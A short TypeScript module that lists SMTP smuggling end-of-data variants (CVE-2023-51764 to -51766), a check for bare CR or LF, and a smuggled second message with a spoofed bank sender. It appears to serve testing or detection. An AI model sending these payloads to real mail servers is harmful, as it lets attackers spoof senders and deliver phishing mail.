// SMTP smuggling: what hides a second message within a first one.

/** Ends of a message that one server sees and the next one does not (CVE-2023-51764, -51765, -51766). */
export const ends = [
  '\n.\n',
  '\n.\r\n',
  '\r\n.\n',
  '\r.\r',
  '\r.\r\n',
  '\r\n.\r',
  '\n.\r',
  '\r.\n',
  '\r\n\0.\r\n',
  '\r\n.\0\r\n',
  '\0\r\n.\0\r\n',
  '\r\n\0.\n',
  '\r\n.\r\0\n',
]

/** Does the end stand on line ends alone, with no CR or LF by itself? */
export const isClean = (end: string): boolean => !/\r(?!\n)|(?<!\r)\n/.test(end)

/** The second message, behind such an end. */
export const smuggled =
  'MAIL FROM:<evil@bank.example>\r\nRCPT TO:<iki@firma.example>\r\nDATA\r\nSubject: smuggled\r\n\r\nx'
